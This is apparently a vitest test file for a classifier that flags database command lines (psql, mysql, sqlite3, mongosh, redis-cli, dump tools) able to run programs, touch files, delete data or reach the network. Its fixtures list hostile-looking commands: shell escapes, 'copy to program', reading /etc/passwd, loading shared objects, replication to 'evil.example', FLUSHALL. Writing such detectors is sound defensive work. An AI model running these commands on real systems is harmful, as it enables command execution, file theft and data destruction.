import { describe, expect, test } from "vitest";
import { doubtsOf, effectsOf, hazardsOf, runsOf } from "./told.ts";

describe("statements that can run programs, or that read and write files, are no plain query", () => {
  test.each([
    "psql -c '\\! id'",
    "psql -c '\\copy t to /tmp/x'",
    "psql -c '\\o out.txt'",
    "psql -c 'select 1 \\g out.txt'",
    "psql -c 'select 1 \\g |sh'",
    "psql -c 'select 1 \\gexec'",
    "psql -c '\\i f.sql'",
    "psql -c '\\ir f.sql'",
    "psql -c '\\w f'",
    "psql -c '\\s f'",
    "psql -c '\\e'",
    "psql -c '\\cd /tmp'",
    "psql -c '\\c postgres://evil.example/x'",
    "psql -c '\\setenv PAGER id'",
    "psql -c '\\echo `id`'",
    "psql -c '\\lo_import x'",
    'psql -c "copy t to program $$id$$"',
    "psql -c \"COPY t TO '/tmp/x'\"",
    "psql -c \"copy t from '/etc/passwd'\"",
    "psql -c \"select pg_read_file('x')\"",
    "psql -c \"do language plpython3u 'x'\"",
    "psql -c 'create extension plperlu'",
    "psql -c \"ALTER SYSTEM SET archive_command = 'id'\"",
    "psql -c \"copy t /* ; */ to /* to stdout */ '/tmp/x'\"",
    "psql -c \"copy (select 1) to stdout; copy t to '/tmp/x'\"",
    "psql -c 'create function f() returns void language \"plpython3u\" as $$x$$'",
    "psql -c 'create/**/extension x'",
    "sqlite3 a.db \"vacuum main into 'x'\"",
    "mysql -e \"select 1 into/**/outfile '/tmp/x'\"",
    "mysql -e 'system id'",
    "mysql -e 'SYSTEM id'",
    "mysql -e '\\! id'",
    "mysql -e '\\T out'",
    "mysql -e '\\P id'",
    "mysql -e '\\. f.sql'",
    "mysql -e 'source f.sql'",
    "mysql -e \"select 1 INTO OUTFILE '/tmp/x'\"",
    "mysql -e \"SELECT LOAD_FILE('x')\"",
    "mysql -e \"load data local infile 'x' into table t\"",
    "mysql --init-command='system id'",
    "mysql -e \"create function f returns string soname 'x.so'\"",
    "mariadb -e '\\! id'",
    "sqlite3 a.db '.shell id'",
    "sqlite3 a.db '.once x'",
    "sqlite3 a.db \"attach 'x' as y\"",
    "sqlite3 a.db \"VACUUM INTO 'x'\"",
    "mongosh --eval x",
    "mongo --eval x",
  ])("%s", (line) => {
    expect(doubtsOf(line)).toContain("inline_code");
    expect(hazardsOf(line)).not.toEqual([]);
  });

  test.each([
    "psql -c '\\dt'",
    "psql -c '\\d+ users'",
    "psql -c '\\l'",
    "psql -c '\\x' -c 'select 1'",
    "psql -c 'select 1 \\gx'",
    "psql -Atc \"select '\\xdead'::bytea\"",
    "psql --command='select count(*) from t' db",
    "psql -c 'copy t to stdout'",
    "psql -c 'COPY (select 1) TO STDOUT with csv'",
    "mysql -e 'show tables' app",
    "mysql -e 'show status\\G' app",
    "mariadb -N -B -e 'select 1'",
    "sqlite3 a.db .tables 'select 1'",
    "sqlite3 -readonly -json a.db 'select 1'",
    "mysqldump app",
    "pg_dump -Fc app",
  ])("a query or a dump is: %s", (line) => {
    expect(doubtsOf(line)).toEqual([]);
    expect(hazardsOf(line)).toEqual([]);
  });
});

test.each([
  ["psql -o '|id' -c x", ["-o:write", "-o:run"]],
  ["psql -f a.sql", ["-f:load"]],
  ["psql -L log -c x", ["-L:write"]],
  ["mysql --pager=id -e x", ["--pager=id:run"]],
  ["mysql --local-infile=1 -e x", ["--local-infile=1:send"]],
  ["mariadb --defaults-extra-file=x -e x", ["--defaults-extra-file=x:load"]],
  ["mariadb --plugin-dir=/tmp -e x", ["--plugin-dir=/tmp:load"]],
  ["pg_dump -f out app", ["-f:write"]],
  ["pg_restore --clean -d app dump", ["--clean:delete"]],
  ["mysqldump -r out app", ["-r:write"]],
  ["mysqldump -T d app", ["-T:write"]],
  ["mongodump -o d", ["-o:write"]],
  ["mongoexport -c c -o out", ["-o:write"]],
  ["mongorestore --drop d", ["--drop:delete"]],
  ["mongosh --file a.js", ["--file:load"]],
  ["sqlite3 -A -c -f a.zip x", ["-A:write"]],
  ["redis-cli FLUSHALL", ["FLUSHALL:delete"]],
  ["redis-cli -h h -n 1 flushdb", ["flushdb:delete"]],
  ["redis-cli eval x 0", ["eval:run"]],
  ["redis-cli module load x.so", ["module:run"]],
  ["redis-cli CONFIG SET dir /tmp", ["CONFIG:configure"]],
  ["redis-cli config get dir", []],
  ["redis-cli --eval a.lua", ["--eval:load"]],
  ["redis-cli --rdb x", ["--rdb:write"]],
  ["redis-cli --functions-rdb x", ["--functions-rdb:write"]],
  ["redis-cli --cluster fix h:1", ["--cluster:configure"]],
  ["redis-cli --tls --cacert c get x", []],
  ["redis-cli --scan --pattern 'a*'", []],
  ["redis-cli info", []],
])("%s has the hazards %j", (line, hazards) => {
  expect(hazardsOf(line)).toEqual(hazards);
});

test.each([
  ["psql -o out -c x", ["write out"]],
  ["psql -h db.example -c x", ["network db.example"]],
  ["mysql -h db.example --ssl-ca=ca.pem -e x", ["network db.example", "read ca.pem"]],
  ["mariadb -h db.example -e x", ["network db.example"]],
  ["pg_dump --file=out app", ["write out"]],
  ["pg_restore -d app dump", ["read dump"]],
  ["mysqldump --result-file=out app", ["write out"]],
  ["mongodump --archive=x", ["network ?", "write x"]],
  ["mongoimport -c c --file in.json", ["network ?", "read in.json"]],
  ["redis-cli replicaof evil.example 1", ["network ?", "network evil.example"]],
])("%s does %j", (line, effects) => {
  expect(effectsOf(line)).toEqual(effects);
});

test("what a file of psql is piped into is a command of the line", () => {
  expect(runsOf("psql -o '|tee x' -c y")).toEqual(["tee x"]);
});
